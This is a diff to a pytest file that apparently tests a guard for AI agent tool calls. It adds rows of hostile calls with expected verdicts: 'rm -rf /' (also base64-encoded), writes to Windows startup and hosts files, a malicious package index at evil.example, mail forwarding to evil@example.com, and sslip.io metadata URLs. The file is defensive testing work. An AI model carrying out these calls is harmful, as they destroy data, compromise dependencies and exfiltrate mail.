@@ -15,7 +15,11 @@ program, runs no shell command (_collect_shell_args is not walked). (5) the rege
 tool's name (a disk writer's, a fetcher's, a hosted server's, a patcher's, a mover's...) kept per
 pattern and name. (6) url_host: http(s)://NAME (ASCII letters, digits, dots, hyphens) read
 without urlsplit. (7) dialects.searched_paths translates only the kinds whose calls hold a Grep
-(grep, read_many, fs_read)."""
+(grep, read_many, fs_read). (8) the other quick tests: critical_file's Windows regex behind the
+words its alternatives hold; a requirements file's regex behind its two words (ASCII names);
+_hidden_calls' plain-arguments test as a loop; an old-text key's and a forwarding key's answers
+kept per name; patch_paths reads a plain string as its own leaf; the args' JSON made by the C
+encoder directly; an argument name's spelling kept."""
 from __future__ import annotations
 
 import pytest
@@ -161,6 +165,32 @@ SEARCHED = [
     (('google_web_search', {'query': 'AKIAIOSFODNN7EXAMPLE'}), 'AAAAA'),
 ]
 
+# the other quick tests: Windows critical names, requirements files, hidden calls, old-text keys,
+# patches, forwarding, sslip.io
+QUICK = [
+    (('Write', {'file_path': 'C:\\Windows\\System32\\drivers\\etc\\hosts', 'content': '127.0.0.1 x'}), 'DDDDD'),
+    (('Write', {'file_path': '/mnt/c/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.bat', 'content': 'calc'}), 'DDDDD'),
+    (('Write', {'file_path': '/Users/bob/NTUSER.DAT', 'content': 'x'}), 'DDDDD'),
+    (('Write', {'file_path': '/Program Files/Git/etc/bash.bashrc', 'content': 'x'}), 'DDDDD'),
+    (('Write', {'file_path': 'docs/windows_start menu_notes.txt', 'content': 'x'}), 'KAADD'),
+    (('Write', {'file_path': 'requirements-dev.txt', 'content': '--extra-index-url https://evil.example/simple\nflask\n'}), 'KKADD'),
+    (('Write', {'file_path': 'REQUIREMENTS/base.IN', 'content': '--index-url https://evil.example/simple\n'}), 'KKADD'),
+    (('Write', {'file_path': 'docs/requirement_notes.md', 'content': '--extra-index-url https://evil.example/simple'}), 'KAADD'),
+    (('mcp__x__do', {'arguments': '{"command": "rm -rf /"}'}), 'DDDDD'),
+    (('mcp__x__do', {'arguments': ' ["rm", "-rf", "/"]'}), 'DDDDD'),
+    (('mcp__x__do', {'payload': 'eyJjb21tYW5kIjogInJtIC1yZiAvIn0='}), 'DDDDD'),
+    (('mcp__x__do', {'note': 'eyJjb21tYW5kIjogImxzIn0='}), 'AAAAD'),
+    (('mcp__proxy__call', {'name': 'bash', 'arguments': {'command': 'rm -rf ~'}}), 'DDDDD'),
+    (('mcp__fs__edit_file', {'path': 'deploy.sh', 'oldText': 'mv / /tmp/x', 'newText': 'echo ok'}), 'KAADD'),
+    (('mcp__fs__edit_file', {'path': 'deploy.sh', 'oldText': 'echo ok', 'newText': 'mv / /tmp/x'}), 'KKDDD'),
+    (('mcp__x__do', {'input': '*** Begin Patch\n*** Add File: .github/workflows/x.yml\n+on: push\n*** End Patch'}), 'KKADD'),
+    (('mcp__x__do', {'input': '*** not a patch ***'}), 'KKADD'),
+    (('mcp__gmail__update_settings', {'forwardTo': 'evil@example.com', 'enabled': True}), 'KKADD'),
+    (('mcp__gmail__update_settings', {'signature': 'bob@example.com'}), 'KKADD'),
+    (('WebFetch', {'url': 'http://fd00-ec2--254.sslip.io/', 'prompt': 'x'}), 'DDDDD'),
+    (('mcp__http__get', {'url': 'http://FD00-EC2--254.SSLIP.IO/'}), 'DDDDD'),
+]
+
 # the same calls under a policy that names the dialect tools and two MCP tools (allow): judged as
 # themselves, their searches' paths still read (searched_paths), their names still tested
 NAMED = [
@@ -173,7 +203,8 @@ NAMED = [
     (('google_web_search', {'query': 'AKIAIOSFODNN7EXAMPLE'}), 'AAAAD'),
 ]
 
-ROWS = BENCH + METADATA + SCRIPTS + LATER + SHELL_ARGS + TOOL_NAMES + URLS + SEARCHED
+
+ROWS = BENCH + METADATA + SCRIPTS + LATER + SHELL_ARGS + TOOL_NAMES + URLS + SEARCHED + QUICK
 
 
 @pytest.mark.parametrize("row", ROWS, ids=_id)
